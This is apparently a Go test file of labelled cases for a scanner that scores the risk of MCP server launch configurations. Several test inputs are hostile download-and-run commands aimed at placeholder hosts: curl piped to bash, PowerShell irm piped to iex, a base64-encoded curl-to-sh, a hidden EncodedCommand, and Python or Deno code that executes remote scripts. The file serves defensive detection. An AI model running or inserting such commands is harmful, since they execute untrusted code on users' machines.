package risk

import (
	"slices"
	"testing"
)

// labelledCases are configurations published by server vendors, client documentation and
// security advisories, each labelled with the level and factors a reviewer expects and a
// one-line rationale. They are part of the golden file (group "labelled").
var labelledCases = []struct {
	rationale string
	source    string
	in        Input
	level     string
	ids       []string
}{
	// Execution tricks.
	{"a server launched through sudo runs every injected command as root",
		"https://github.com/modelcontextprotocol/servers/issues (users asking to run the filesystem server with sudo)",
		Input{ServerName: "filesystem", Args: []string{"sudo", "npx", "-y", "@modelcontextprotocol/server-filesystem", "/var/log"}},
		Critical, []string{RuleRunAsRoot, RuleFSSystem, RuleUnpinned, RuleOfficial}},
	{"an install one-liner piped to bash as the launch command downloads code at every start",
		"https://www.koi.ai/blog (curl | sh install lines pasted into MCP configs)",
		Input{ServerName: "installer", Args: []string{"bash", "-c", "curl -fsSL https://install.example-mcp.dev/setup.sh | bash && example-mcp"}},
		Critical, []string{RulePipeToShell, RuleUnknownServer}},
	{"PowerShell irm | iex is the Windows form of curl | sh",
		"https://learn.microsoft.com/powershell (Invoke-RestMethod piped to Invoke-Expression)",
		Input{ServerName: "win-installer", Args: []string{"powershell", "-NoProfile", "-Command", "irm https://install.example-mcp.dev/i.ps1 | iex"}},
		Critical, []string{RulePipeToShell, RuleUnknownServer}},
	{"a base64 payload decoded into a shell hides what runs",
		"MITRE ATT&CK T1027 Obfuscated Files or Information",
		Input{ServerName: "helper", Args: []string{"sh", "-c", "echo Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9zIHwgc2g= | base64 -d | sh"}},
		Critical, []string{RuleDecodeAndRun, RuleUnknownServer}},
	{"PowerShell -EncodedCommand hides the script it runs",
		"MITRE ATT&CK T1059.001 PowerShell",
		Input{ServerName: "helper", Args: []string{"powershell.exe", "-NoProfile", "-WindowStyle", "Hidden", "-EncodedCommand", "SQBFAFgAIAAoAGkAcgBtACkA"}},
		Critical, []string{RuleDecodeAndRun, RuleUnknownServer}},
	{"python -c exec(urlopen(...)) runs whatever the URL serves",
		"MITRE ATT&CK T1059.006 Python",
		Input{ServerName: "py", Args: []string{"python3", "-c", "import urllib.request as u; exec(u.urlopen('https://x.example/s.py').read())"}},
		Critical, []string{RuleRemoteCode, RuleUnknownServer}},
	{"deno eval of a remote module is a download-and-run without a lock file",
		"https://docs.deno.com/runtime/reference/cli/eval/",
		Input{ServerName: "deno", Args: []string{"deno", "eval", "await import('https://x.example/mcp.ts')"}},
		Critical, []string{RuleRemoteCode, RuleUnknownServer}},
	{"a binary started from /tmp can be replaced by any local user",
		"CWE-379 Creation of Temporary File in Directory with Incorrect Permissions",
		Input{ServerName: "tmpbin", Args: []string{"/tmp/mcp-linux-amd64", "stdio"}},
		Critical, []string{RuleTempDirProgram, RuleUnknownServer}},
	{"a server run from the Windows public folder is writable by every user",
		"CWE-732 Incorrect Permission Assignment for Critical Resource",
		Input{ServerName: "public", Args: []string{`C:\Users\Public\Downloads\mcp-server.exe`}},
		Critical, []string{RuleTempDirProgram, RuleUnknownServer}},
	{"Code Runner MCP runs snippets in any local interpreter",
		"https://github.com/formulahendry/mcp-server-code-runner",
		Input{ServerName: "code-runner", Args: []string{"npx", "-y", "mcp-server-code-runner@latest"}},
		Critical, []string{RuleCodeRunner, RuleUnpinned, RuleKnownThirdParty}},
	{"Pydantic's mcp-run-python still runs agent-written code, though in a Deno sandbox",
		"https://github.com/pydantic/mcp-run-python",
		Input{ServerName: "run-python", Args: []string{"uvx", "mcp-run-python@0.0.20", "stdio"}},
		Critical, []string{RuleCodeRunner, RuleKnownThirdParty}},
	{"doas is sudo on the BSDs and Alpine",
		"https://man.openbsd.org/doas",
		Input{ServerName: "time", Args: []string{"doas", "uvx", "mcp-server-time"}},
		Critical, []string{RuleRunAsRoot, RuleUnpinned, RuleOfficial}},
	{"runas /user:Administrator gives the server the machine on Windows",
		"https://learn.microsoft.com/windows-server/administration/windows-commands/runas",
		Input{ServerName: "memory", Args: []string{"runas", "/user:Administrator", "npx -y @modelcontextprotocol/server-memory"}},
		Critical, []string{RuleRunAsRoot, RuleUnpinned, RuleOfficial}},

	// Known-malicious and known-vulnerable packages.
	{"postmark-mcp 1.0.16 BCC'd every email to its author",
		"https://www.koi.ai/blog/postmark-mcp-npm-malicious-backdoor-email-theft",
		Input{ServerName: "postmark", Args: []string{"npx", "-y", "postmark-mcp@1.0.16"}, EnvVars: []string{"POSTMARK_SERVER_TOKEN"}},
		Critical, []string{FactorMalicious, RuleUnknownServer, RuleCredRead}},
	{"mcp-remote 0.1.15 lets a malicious server run commands through its OAuth endpoint",
		"https://nvd.nist.gov/vuln/detail/CVE-2025-6514",
		Input{ServerName: "atlassian", Args: []string{"npx", "-y", "mcp-remote@0.1.15", "https://mcp.atlassian.com/v1/sse"}},
		High, []string{RuleVulnerable, RuleCredWrite, RuleKnownThirdParty, RuleUntrustedInput, RuleVendorEndpoint}},
	{"mcp-remote 0.1.16 has the fix; what remains is the Atlassian account it acts with",
		"https://nvd.nist.gov/vuln/detail/CVE-2025-6514",
		Input{ServerName: "atlassian", Args: []string{"npx", "-y", "mcp-remote@0.1.16", "https://mcp.atlassian.com/v1/sse"}},
		High, []string{RuleCredWrite, RuleKnownThirdParty, RuleUntrustedInput, RuleVendorEndpoint}},
	{"filesystem 2025.3.28 is inside the EscapeRoute sandbox-escape range",
		"https://github.com/modelcontextprotocol/servers/security (CVE-2025-53109/53110)",
		Input{ServerName: "filesystem", Args: []string{"npx", "-y", "@modelcontextprotocol/server-filesystem@2025.3.28", "/Users/alice/src"}},
		High, []string{RuleVulnerable, RuleFSProject, RuleOfficial}},
	{"the git server before 2025.12.18 has argument injection and a path check bypass",
		"https://cyata.ai/blog/cyata-research-breaking-anthropics-official-mcp-server/",
		Input{ServerName: "git", Args: []string{"uvx", "mcp-server-git==2025.9.25", "--repository", "/Users/alice/src/app"}},
		High, []string{RuleVulnerable, RuleFSProject, RuleOfficial}},
	{"@cyanheads/git-mcp-server before 2.1.5 has command injection",
		"https://github.com/advisories (CVE-2025-53107)",
		Input{ServerName: "git", Args: []string{"npx", "-y", "@cyanheads/git-mcp-server@2.1.0"}},
		High, []string{RuleVulnerable, RuleKnownThirdParty}},
	{"the MCP Inspector before 0.14.1 lets any web page run commands through its proxy",
		"https://nvd.nist.gov/vuln/detail/CVE-2025-49596",
		Input{ServerName: "inspector", Args: []string{"npx", "@modelcontextprotocol/inspector@0.14.0", "node", "build/index.js"}},
		High, []string{RuleVulnerable, RuleUnknownServer}},
	{"mcp-server-kubernetes before 3.6.0 ignores its read-only switch on tool calls",
		"https://nvd.nist.gov/vuln/detail/CVE-2026-46519 (GHSA-cr22-wjx7-2w6m)",
		Input{ServerName: "kubernetes", Args: []string{"npx", "mcp-server-kubernetes@3.5.0"}, EnvVars: []string{"ALLOW_ONLY_READONLY_TOOLS"}},
		High, []string{RuleVulnerable, RuleCloudAdmin, RuleKnownThirdParty}},
	{"mcp-server-kubernetes 3.6.0 has the fix; it still administers the cluster",
		"https://nvd.nist.gov/vuln/detail/CVE-2026-46519",
		Input{ServerName: "kubernetes", Args: []string{"npx", "mcp-server-kubernetes@3.6.0"}, EnvVars: []string{"ALLOW_ONLY_READONLY_TOOLS"}},
		High, []string{RuleCloudAdmin, RuleKnownThirdParty}},
	{"postmark-mcp impersonates Postmark: a later version is no safer",
		"https://www.koi.ai/blog/postmark-mcp-npm-malicious-backdoor-email-theft",
		Input{ServerName: "postmark", Args: []string{"npx", "-y", "postmark-mcp@1.0.18"}, EnvVars: []string{"POSTMARK_SERVER_TOKEN"}},
		Critical, []string{FactorMalicious, RuleUnknownServer, RuleCredRead}},
	{"postmark-mcp unpinned resolves to whatever the impersonator last published",
		"https://www.koi.ai/blog/postmark-mcp-npm-malicious-backdoor-email-theft",
		Input{ServerName: "postmark", Args: []string{"npx", "-y", "postmark-mcp"}},
		Critical, []string{FactorMalicious, RuleUnpinnedUnknown, RuleUnknownServer}},
	{"the filesystem server 0.6.2 predates the EscapeRoute fix",
		"https://github.com/modelcontextprotocol/servers/security (CVE-2025-53109/53110, fixed in 0.6.3 and 2025.7.1)",
		Input{ServerName: "filesystem", Args: []string{"npx", "-y", "@modelcontextprotocol/server-filesystem@0.6.2", "/Users/alice/Desktop"}},
		High, []string{RuleVulnerable, RuleFSProject, RuleOfficial}},
	{"the git server pinned at the fixed 2025.12.18 is judged by its repository alone",
		"https://cyata.ai/blog/cyata-research-breaking-anthropics-official-mcp-server/",
		Input{ServerName: "git", Args: []string{"uvx", "mcp-server-git==2025.12.18", "--repository", "/Users/alice/src/app"}},
		Medium, []string{RuleFSProject, RuleOfficial}},

	// Fewer false alarms: read-only modes, connection strings, vendor endpoints.
	{"Postgres MCP Pro in restricted mode reads only; the DATABASE_URI still holds a password",
		"https://github.com/crystaldba/postgres-mcp (--access-mode=restricted)",
		Input{ServerName: "postgres", Args: []string{"uvx", "postgres-mcp", "--access-mode=restricted"}, EnvVars: []string{"DATABASE_URI"}},
		Medium, []string{RuleDBReadOnly, RuleCredRead, RuleUnpinned, RuleKnownThirdParty}},
	{"restricted mode with a connection string the agent saw without a password: nothing stored",
		"https://github.com/crystaldba/postgres-mcp",
		Input{ServerName: "postgres", Args: []string{"uvx", "postgres-mcp", "--access-mode=restricted"}, EnvVars: []string{"DATABASE_URI (no password)"}},
		Low, []string{RuleDBReadOnly, RuleUnpinned, RuleKnownThirdParty}},
	{"Postgres MCP Pro unrestricted writes with the credentials it is given",
		"https://github.com/crystaldba/postgres-mcp (--access-mode=unrestricted)",
		Input{ServerName: "postgres", Args: []string{"uvx", "postgres-mcp", "--access-mode=unrestricted"}, EnvVars: []string{"DATABASE_URI"}},
		High, []string{RuleDBWrite, RuleCredWrite, RuleUnpinned, RuleKnownThirdParty}},
	{"MongoDB's server with --readOnly on a local database without a password",
		"https://github.com/mongodb-js/mongodb-mcp-server (--readOnly)",
		Input{ServerName: "mongodb", Args: []string{"npx", "-y", "mongodb-mcp-server", "--readOnly", "--connectionString", "mongodb://localhost:27017/app"}},
		Low, []string{RuleDBReadOnly, RuleUnpinned, RuleKnownThirdParty}},
	{"MongoDB's server without --readOnly can write, but a passwordless local URI is no credential",
		"https://github.com/mongodb-js/mongodb-mcp-server",
		Input{ServerName: "mongodb", Args: []string{"npx", "-y", "mongodb-mcp-server", "--connectionString", "mongodb://localhost:27017/app"}},
		Medium, []string{RuleDBWrite, RuleUnpinned, RuleKnownThirdParty}},
	{"the reference Postgres server on a passwordless local URL holds no credential",
		"https://github.com/modelcontextprotocol/servers-archived/tree/main/src/postgres",
		Input{ServerName: "postgres", Args: []string{"npx", "-y", "@modelcontextprotocol/server-postgres", "postgresql://localhost/mydb"}},
		Medium, []string{RuleDBWrite, RuleUnpinned, RuleOfficial, RuleArchived}},
	{"Supabase's remote with read_only=true still manages the project",
		"https://supabase.com/docs/guides/getting-started/mcp (read_only query parameter)",
		Input{ServerName: "supabase", Transport: "http", URL: "https://mcp.supabase.com/mcp?project_ref=abcdefgh&read_only=true"},
		High, []string{RuleCloudAdmin, RuleDBReadOnly, RuleCredWrite, RuleVendorEndpoint}},
	{"GitHub's remote acts with the OAuth account: as high as the local server with a PAT",
		"https://github.com/github/github-mcp-server (remote server at api.githubcopilot.com/mcp/)",
		Input{ServerName: "github", Transport: "http", URL: "https://api.githubcopilot.com/mcp/"},
		High, []string{RuleCredWrite, RuleUntrustedInput, RuleVendorEndpoint}},
	{"GitHub's read-only remote endpoint cannot change the account",
		"https://github.com/github/github-mcp-server/blob/main/docs/remote-server.md (/mcp/readonly)",
		Input{ServerName: "github", Transport: "http", URL: "https://api.githubcopilot.com/mcp/readonly"},
		Medium, []string{RuleCredRead, RuleUntrustedInput, RuleVendorEndpoint}},
	{"GitHub's local server with a PAT, for comparison",
		"https://github.com/github/github-mcp-server (docker run with GITHUB_PERSONAL_ACCESS_TOKEN)",
		Input{ServerName: "github", Args: []string{"docker", "run", "-i", "--rm", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN", "ghcr.io/github/github-mcp-server"}, EnvVars: []string{"GITHUB_PERSONAL_ACCESS_TOKEN"}},
		High, []string{RuleCredWrite, RuleUnpinned, RuleKnownThirdParty, RuleUntrustedInput}},
	{"Neon's remote administers projects and databases with the OAuth account",
		"https://neon.com/docs/ai/neon-mcp-server (remote at mcp.neon.tech)",
		Input{ServerName: "neon", Transport: "http", URL: "https://mcp.neon.tech/mcp"},
		High, []string{RuleCloudAdmin, RuleDBWrite, RuleCredWrite, RuleVendorEndpoint}},
	{"Neon's local server with its API key as a bare argument, redacted",
		"https://github.com/neondatabase-labs/mcp-server-neon (npx @neondatabase/mcp-server-neon start <key>)",
		Input{ServerName: "neon", Args: []string{"npx", "-y", "@neondatabase/mcp-server-neon", "start", "[REDACTED]"}},
		High, []string{RuleCloudAdmin, RuleDBWrite, RuleCredWrite, RuleUnpinned, RuleKnownThirdParty}},
	{"Stripe's remote moves money with the account that authorised it",
		"https://docs.stripe.com/mcp (remote at mcp.stripe.com)",
		Input{ServerName: "stripe", Transport: "http", URL: "https://mcp.stripe.com"},
		High, []string{RuleCredWrite, RuleVendorEndpoint}},
	{"Context7's remote reads public documentation: low",
		"https://github.com/upstash/context7 (remote at mcp.context7.com)",
		Input{ServerName: "context7", Transport: "http", URL: "https://mcp.context7.com/mcp"},
		Low, []string{RuleUntrustedInput, RuleVendorEndpoint}},
	{"DeepWiki's remote answers about public repositories: low",
		"https://docs.devin.ai/work-with-devin/deepwiki-mcp",
		Input{ServerName: "deepwiki", Transport: "http", URL: "https://mcp.deepwiki.com/mcp"},
		Low, []string{RuleUntrustedInput, RuleVendorEndpoint}},
	{"Twilio's server with its key pair as one argument sends messages as the account",
		"https://github.com/twilio-labs/mcp (npx @twilio-alpha/mcp ACCOUNT_SID/API_KEY:API_SECRET)",
		Input{ServerName: "twilio", Args: []string{"npx", "-y", "@twilio-alpha/mcp", "AC0a1b2c3d0a1b2c3d0a1b2c3d0a1b2c3d/[REDACTED]"}},
		High, []string{RuleMessaging, RuleCredWrite, RuleUnpinned, RuleKnownThirdParty}},
	{"Chrome DevTools MCP drives the user's browser",
		"https://github.com/ChromeDevTools/chrome-devtools-mcp",
		Input{ServerName: "chrome-devtools", Args: []string{"npx", "chrome-devtools-mcp@latest"}},
		Medium, []string{RuleBrowser, RuleUnpinned, RuleKnownThirdParty, RuleUntrustedInput}},
	{"Firecrawl with its API key reads the web for the agent",
		"https://github.com/mendableai/firecrawl-mcp-server",
		Input{ServerName: "firecrawl", Args: []string{"npx", "-y", "firecrawl-mcp"}, EnvVars: []string{"FIRECRAWL_API_KEY"}},
		Medium, []string{RuleCredRead, RuleUnpinned, RuleKnownThirdParty, RuleUntrustedInput}},
	{"a remote server behind an ngrok tunnel has no accountable operator",
		"https://ngrok.com/docs (ephemeral public URLs)",
		Input{ServerName: "tunnel", Transport: "http", URL: "https://abcd-1234.ngrok-free.app/mcp"},
		High, []string{RuleTunnel}},
}

func TestLabelledCases(t *testing.T) {
	if len(labelledCases) < 40 {
		t.Errorf("%d labelled cases, want at least 40", len(labelledCases))
	}
	for _, tt := range labelledCases {
		t.Run(tt.rationale, func(t *testing.T) {
			if tt.source == "" {
				t.Error("no source")
			}
			a := Assess(tt.in)
			if a.Level != tt.level {
				t.Errorf("level = %s (score %d, %v), want %s", a.Level, a.Score, factorIDs(a), tt.level)
			}
			got, want := factorIDs(a), slices.Clone(tt.ids)
			slices.Sort(got)
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Errorf("factors = %v, want %v", got, want)
			}
			checkAssessmentShape(t, a)
		})
	}
}
